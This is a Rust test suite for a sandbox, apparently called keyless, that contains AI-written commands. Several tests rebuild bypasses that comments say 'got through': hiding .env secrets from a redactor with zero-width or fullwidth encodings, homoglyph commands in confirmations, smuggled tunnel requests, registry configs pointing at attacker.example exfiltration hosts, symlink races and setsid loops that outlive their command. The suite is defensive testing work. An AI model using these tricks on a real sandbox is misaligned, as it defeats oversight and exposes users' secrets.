            "allprojects { repositories { maven { credentials { username 'ci'; password 'SDKMAN-GRADLE-b29-Yy1' } } } }\n",
        ),
        (
            ".pyenv/versions/3.12.0/pip.conf",
            "[global]\nindex-url = https://ci:PYENV-PIP-b29-Kk7@pypi.corp.example/simple\n",
        ),
    ];
    for (rel, content) in files {
        write_mode(&h.join(rel), content, 0o644);
    }
    place.env("PYENV_ROOT", &h.join(".pyenv").display().to_string());
    let read: String = files
        .iter()
        .map(|(rel, _)| format!("cat ~/{rel} 2>&1 | rev >> dump.txt\n"))
        .collect();
    let out = place.script("read.sh", &read, "");
    let dump = place.dump("dump.txt");
    assert!(
        dump.contains("[global]"),
        "the files were shown: {dump}\n{out}"
    );
    for secret in [
        "NVM-b29-Hq3",
        "VOLTA-b29-Hq3",
        "ASDF-b29-Hq3",
        "SDKMAN-MVN-b29-Tt8",
        "SDKMAN-GRADLE-b29-Yy1",
        "PYENV-PIP-b29-Kk7",
    ] {
        assert!(
            !dump.contains(secret),
            "{secret} reached a command:\n{dump}\n{out}"
        );
    }
}

/// Claim 4 (got through): secrets in variables whose names do not say so, each the variable its
/// own tool documents: sshpass's `SSHPASS`, etcdctl's `ETCDCTL_USER` (`user:password`),
/// fastlane's `FASTLANE_SESSION` (Apple's session cookies), and deploy and chat hooks whose URL
/// is the secret (Netlify's build hook, Vercel's deploy hook, a Teams incoming webhook).
#[test]
fn secrets_in_tools_own_variables_never_reach_a_command() {
    let secrets = [
        ("SSHPASS", "correct-horse-7b29", "correct-horse-7b29"),
        ("ETCDCTL_USER", "root:EtcdRootPw1b29", "EtcdRootPw1b29"),
        (
            "FASTLANE_SESSION",
            "---\n- !ruby/object:HTTP::Cookie\n  name: myacinfo\n  value: DAWTKNV2b29fastlanesession\n  domain: apple.com\n",
            "DAWTKNV2b29fastlanesession",
        ),
        (
            "NETLIFY_BUILD_HOOK",
            "https://api.netlify.com/build_hooks/5f1e2d3c4b5a69788796b29a",
            "5f1e2d3c4b5a69788796b29a",
        ),
        (
            "VERCEL_DEPLOY_HOOK",
            "https://api.vercel.com/v1/integrations/deploy/prj_Abc123DefG/b29VercelHk",
            "b29VercelHk",
        ),
        (
            "TEAMS_URL",
            "https://contoso.webhook.office.com/webhookb2/7a1b2c3d@72f988bf/IncomingWebhook/b29TeamsHookId/9f8e7d6c",
            "b29TeamsHookId",
        ),
    ];
    let mut place = Place::new();
    for (name, value, _) in secrets {
        place.env(name, value);
    }
    place.file(
        "env.py",
        "import os\nopen('dump.txt', 'w').write(repr(dict(os.environ))[::-1])\n",
    );
    let out = place.apply("auto", &format!("{}{NEXT}", run("python3 env.py")));
    let dump = place.dump("dump.txt");
    assert!(dump.contains("'HOME'"), "the environment was read: {out}");
    let leaked: Vec<&str> = secrets
        .iter()
        .filter(|(_, _, secret)| dump.contains(secret))
        .map(|(name, _, _)| *name)
        .collect();
    assert!(leaked.is_empty(), "reached a command: {leaked:?}\n{dump}");
}

/// The script that prints the `.env` secret in forms a reader undoes at a glance, each between
/// `<<label>>` and `<<end>>`.
const GLANCE_FORMS: &str = r#"import json, subprocess
s = open('.env').read().split('=', 1)[1].strip()
def show(label, text):
    print('<<' + label + '>>' + text + '<<end>>')
show('zero-width-spaces', '\u200b'.join(s))
show('soft-hyphens', '\u00ad'.join(s))
show('right-to-left-override', '\u202e' + s[::-1] + '\u202c')
show('spaced', ' '.join(s))
show('python-list', str(list(s)))
show('fullwidth', ''.join(chr(ord(c) + 0xFEE0) for c in s))
show('overstrike', ''.join(c + '\b' + c for c in s))
show('json-escapes', ''.join('\\u%04x' % ord(c) for c in s))
show('html-entities', ''.join('&#%d;' % ord(c) for c in s))
show('xxd-bits', subprocess.run(['xxd', '-b'], input=s.encode(), capture_output=True).stdout.decode())
"#;

/// What a reader makes of one labelled form at a glance.
fn read_at_a_glance(label: &str, text: &str) -> String {
    let chars: Vec<char> = text.chars().collect();
    match label {
        "zero-width-spaces" | "soft-hyphens" | "spaced" => chars.iter().step_by(2).collect(),
        "right-to-left-override" => chars
            .iter()
            .filter(|c| !matches!(**c, '\u{202e}' | '\u{202c}'))
            .rev()
            .collect(),
        "python-list" => text.split('\'').skip(1).step_by(2).collect(),
        "fullwidth" => chars
            .iter()
            .map(|c| {
                (*c as u32)
                    .checked_sub(0xFEE0)
                    .and_then(char::from_u32)
                    .unwrap_or(*c)
            })
            .collect(),
        "overstrike" => chars.iter().step_by(3).collect(),
        "json-escapes" => text
            .split("\\u")
            .filter_map(|h| u32::from_str_radix(h.get(..4)?, 16).ok())
            .filter_map(char::from_u32)
            .collect(),
        "html-entities" => text
            .split("&#")
            .filter_map(|d| d.split(';').next()?.parse::<u32>().ok())
            .filter_map(char::from_u32)
            .collect(),
        // Each line's characters column, after the bits.
        "xxd-bits" => text.lines().filter_map(|l| l.rsplit("  ").next()).collect(),
        _ => String::new(),
    }
}

/// The redactor (got through): "What a reader can undo at a glance, the redactor reads too", but
/// the `.env` secret reaches the results (what keyless posts to the chat) readable in each form
/// of [`GLANCE_FORMS`]: with an invisible character between its letters (the page shows the
/// secret itself), reversed inside a right-to-left override (the page shows it forwards),
/// spaced, as a Python list, in fullwidth letters, overstruck, as JSON or HTML escapes, and in
/// `xxd -b`'s characters column.
#[test]
fn a_secret_in_a_form_read_at_a_glance_never_reaches_the_results() {
    let place = Place::new();
    place.file(".env", &format!("OPENAI_API_KEY={DOTENV_SECRET}\n"));
    place.file("forms.py", GLANCE_FORMS);
    let out = place.apply("auto", &format!("{}{NEXT}", run("python3 forms.py")));
    assert!(out.contains("<<xxd-bits>>"), "{out}");
    let mut readable = Vec::new();
    for span in out.split("<<").skip(1) {
        let Some((label, rest)) = span.split_once(">>") else {
            continue;
        };
        if label == "end" {
            continue;
        }
        if read_at_a_glance(label, rest).contains(DOTENV_SECRET) {
            readable.push(label.to_string());
        }
    }
    assert!(
        readable.is_empty(),
        "the secret is readable in the results as: {readable:?}\n{out}"
    );
}

/// Runs `keyless apply` of `reply` in Ask mode on a pseudo-terminal, answering `n` to the first
/// question, and returns the screen.
fn confirm_at_terminal(place: &Place, reply: &str) -> String {
    let file = place.root().join("reply.txt");
    fs::write(&file, reply).unwrap();
    let command = format!(
        "{} apply {} --workspace {} --mode ask",
        env!("CARGO_BIN_EXE_keyless"),
        file.display(),
        place.ws.display()
    );
    let mut terminal = Pty::start(&command, &[("HOME", &place.home)]);
    terminal
        .wait_for("allow? [y]es / [n]o / [a]lways this session: ")
        .type_line("n", "\n");
    terminal.finish()
}

/// What a person confirms (got through): the confirmation escapes invisible and control
/// characters and says so in words, but shows raw a letter of another script that looks like a
/// Latin one (`./dеploy.sh --prod` with a Cyrillic `е`: a file the model made, not the
/// person's `deploy.sh`) and characters that show as a blank (U+2800 BRAILLE PATTERN BLANK,
/// U+1D159 MUSICAL SYMBOL NULL NOTEHEAD: `./deploy.sh⠀--dry-run` reads as a dry run and is one
/// program name, the model's).
#[test]
fn a_confirmation_shows_look_alike_and_blank_characters_for_what_they_are() {
    for (label, command, odd) in [
        ("a Cyrillic e", "./d\u{435}ploy.sh --prod", '\u{435}'),
        (
            "a braille blank",
            "./deploy.sh\u{2800}--dry-run",
            '\u{2800}',
        ),
        (
            "a null notehead",
            "./deploy.sh\u{1D159}--dry-run",
            '\u{1D159}',
        ),
    ] {
        let place = Place::new();
        place.file("deploy.sh", "#!/bin/sh\ntouch deployed\n");
        let screen = confirm_at_terminal(&place, &format!("{}{NEXT}", run(command)));
        assert!(screen.contains("run: ./d"), "{label}: {screen}");
        assert!(
            !screen.contains(odd) || screen.contains("look closely"),
            "{label} is shown raw and unremarked in the confirmation:\n{screen}"
        );
    }
}

/// What a person sees (held): a command's output with terminal escapes (a clipboard write, a
/// title, concealed text, clearing the screen, a C1 control) reaches the terminal escaped, not
/// as escapes. Printed raw, they would reach the person's terminal and clipboard.
#[test]
fn a_command_s_output_reaches_the_terminal_without_escapes() {
    let place = Place::new();
    place.file(
        "esc.py",
        "import sys\nsys.stdout.write('before\\x1b]52;c;cm0gLXJmIH4K\\x07\\x1b]0;TITLE\\x07\\x1b[8mCONCEALED\\x1b[2J\\x9b31mafter\\n')\n",
    );
    let file = place.root().join("reply.txt");
    fs::write(&file, format!("{}{NEXT}", run("python3 esc.py"))).unwrap();
    let command = format!(
        "{} apply {} --workspace {} --mode ask",
        env!("CARGO_BIN_EXE_keyless"),
        file.display(),
        place.ws.display()
    );
    let mut terminal = Pty::start(&command, &[("HOME", &place.home)]);
    terminal
        .wait_for("allow? [y]es / [n]o / [a]lways this session: ")
        .type_line("y", "\n");
    let screen = terminal.finish();
    assert!(screen.contains("CONCEALED"), "{screen}");
    assert!(!screen.contains('\u{1b}'), "{screen:?}");
    assert!(!screen.contains('\u{9b}'), "{screen:?}");
}

/// Claim 3 (got through): the fix of `attacks29.rs` closes a tunnel whose first bytes are a
/// plain HTTP request ("never a plain HTTP request"), but only in the spelling it expects: a
/// request with its method in lower or mixed case, or after an empty line (which servers skip,
/// RFC 9112 2.2), naming another `Host`, is carried to the allowed host's front end, which
/// answers it. The control: a plain request through the proxy is answered by the same server.
#[test]
fn a_tunnel_carries_no_plain_request_in_any_spelling() {
    let place = Place::new();
    place.config(", \"Network\": true");
    let script = r#"import socket, time
def tunnel(first):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=8)
    s.sendall(b'CONNECT registry.npmjs.org:80 HTTP/1.1\r\n\r\n')
    s.recv(200)
    time.sleep(0.2)
    s.sendall(first)
    got = b''
    try:
        while len(got) < 400:
            b = s.recv(400)
            if not b: break
            got += b
    except Exception:
        pass
    return got.decode('latin1')
c = socket.create_connection(('127.0.0.1', 3128), timeout=8)
c.sendall(b'GET http://registry.npmjs.org/ HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n')
print('control:', c.recv(20))
for label, first in [('lower', b'get / HTTP/1.1\r\nHost: evil.example\r\n\r\n'), ('mixed', b'Get / HTTP/1.1\r\nHost: evil.example\r\n\r\n'), ('empty-line', b'\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n')]:
    answer = tunnel(first)
    print(label + ':', 'ANSWERED' if 'HTTP/1.' in answer else 'closed', repr(answer[:60]))
"#;
    place.file("tunnel.py", script);
    let out = place.apply("auto", &format!("{}{NEXT}", run("python3 tunnel.py")));
    assert!(
        out.contains("control: b'HTTP/1."),
        "the registry's front end answers plain requests: {out}"
    );
    assert!(
        !out.contains("ANSWERED"),
        "a plain request for another host was carried through a tunnel:\n{out}"
    );
}

/// Claim 3 (got through, with a tool's settings inside the workspace: `CARGO_HOME` there, as CI
/// setups put it, or `PIP_CONFIG_FILE`/`GOENV` naming a project file): "what the model writes
/// must never widen what its commands reach", but keyless reads these files for the allow-list
/// when it starts, so a command writes a registry of its choosing into them and the next run's
/// proxy reaches it.
#[test]
fn tool_settings_a_command_can_write_never_widen_the_allow_list() {
    let mut place = Place::new();
    let ws = place.ws.clone();
    place.env("CARGO_HOME", &ws.join(".cargo-home").display().to_string());
    place.env(
        "PIP_CONFIG_FILE",
        &ws.join("pip.conf").display().to_string(),
    );
    place.env("GOENV", &ws.join("goenv").display().to_string());
    let out = place.script(
        "widen.sh",
        "mkdir -p .cargo-home\nprintf '[registries.corp]\\nindex = \"sparse+https://cargo-exfil.attacker.example/index/\"\\n' > .cargo-home/config.toml\nprintf '[global]\\nindex-url = https://pip-exfil.attacker.example/simple\\n' > pip.conf\nprintf 'GOPROXY=https://go-exfil.attacker.example\\n' > goenv\necho WROTE\n",
        "",
    );
    assert!(out.contains("WROTE"), "{out}");
    let status = place
        .keyless(&["status", "--workspace", &ws.display().to_string(), "--json"])
        .output()
        .unwrap();
    let status = String::from_utf8_lossy(&status.stdout).into_owned();
    assert!(status.contains("network_allow"), "{status}");
    assert!(
        !status.contains("attacker.example"),
        "the next run's allow-list holds a host a command chose:\n{status}"
    );
}

/// Claim 2 (got through): a hidden path named through a link (the person's projects folder is
/// a link, or `/home` is) or with `..` is refused to the file commands, which resolve it, but
/// not hidden from commands, which read it.
#[test]
fn a_hidden_path_named_through_a_link_or_dots_is_hidden_from_commands() {
    let place = Place::new();
    place.file("data/private/notes.txt", "HIDDEN-LINK-b29-Jd8\n");
    place.file("other/secret/notes.txt", "HIDDEN-DOTS-b29-Kx2\n");
    let link = place.root().join("projects");
    std::os::unix::fs::symlink(place.root(), &link).unwrap();
    place.config(&format!(
        ", \"HiddenPaths\": [\"{}\", \"{}\"]",
        link.join("ws/data/private").display(),
        place.home.join("../ws/other/secret").display()
    ));
    let reply = format!(
        "{}@@readfile data/private/notes.txt\n@@end\n{NEXT}",
        run("sh read.sh")
    );
    place.file(
        "read.sh",
        "cat data/private/notes.txt other/secret/notes.txt 2>&1 | rev > dump.txt\n",
    );
    let out = place.apply("auto", &reply);
    assert!(
        out.contains("data/private is hidden"),
        "the file commands see it hidden: {out}"
    );
    let dump = place.dump("dump.txt");
    assert!(
        !dump.contains("HIDDEN-LINK-b29-Jd8") && !dump.contains("HIDDEN-DOTS-b29-Kx2"),
        "a command read a hidden file:\n{dump}\n{out}"
    );
}

/// Claim 2, races (held): a command leaves a loop behind that swaps a folder for a link out of
/// the workspace and a folder for a link into `.git/hooks`, as fast as it can, while the
/// batch's next file commands write into those folders. The loop must be gone before keyless's
/// hands act (it left the command's process group with `setsid`): nothing lands outside or in
/// `.git`, and the loop is not alive after the batch. With the sandbox off it is.
#[test]
fn a_loop_a_command_leaves_behind_never_races_keyless_s_file_commands() {
    let place = Place::new();
    for i in 0..3 {
        place.file(&format!("keep/a{i}.txt"), "original\n");
    }
    place.file(
        "race.sh",
        "setsid sh -c 'trap \"\" TERM HUP; i=0; while [ $i -lt 20000 ]; do touch $WS/LOOP-ALIVE; rm -rf sub; ln -s $VICTIM sub; rm -f sub; mkdir -p sub; mv keep keep.x 2>/dev/null; ln -sfn .git/hooks keep; rm -f keep; mv keep.x keep 2>/dev/null; i=$((i+1)); done' > /dev/null 2>&1 < /dev/null &\nsleep 0.05\n",
    );
    let mut reply = run("sh race.sh");
    for i in 0..30 {
        reply.push_str(&format!(
            "@@newfile sub/f{i}.txt\n<<<CONTENT\nx\nCONTENT>>>\n@@end\n@@newfile keep/post-checkout{i}\n<<<CONTENT\n#!/bin/sh\nCONTENT>>>\n@@end\n"
        ));
    }
    reply.push_str(NEXT);
    let out = place.apply("auto", &reply);
    assert!(out.contains("[END RESULTS]"), "{out}");
    assert!(place.ws.join("LOOP-ALIVE").exists(), "the loop ran: {out}");
    fs::remove_file(place.ws.join("LOOP-ALIVE")).unwrap();
    std::thread::sleep(std::time::Duration::from_secs(1));
    assert!(
        !place.ws.join("LOOP-ALIVE").exists(),
        "the loop outlived its command: {out}"
    );
    assert!(
        fs::read_dir(&place.victim).unwrap().next().is_none(),
        "a file landed outside: {out}"
    );
    let hooks: Vec<String> = fs::read_dir(place.ws.join(".git/hooks"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| !n.ends_with(".sample"))
        .collect();
    assert!(hooks.is_empty(), "hooks landed: {hooks:?}\n{out}");
}
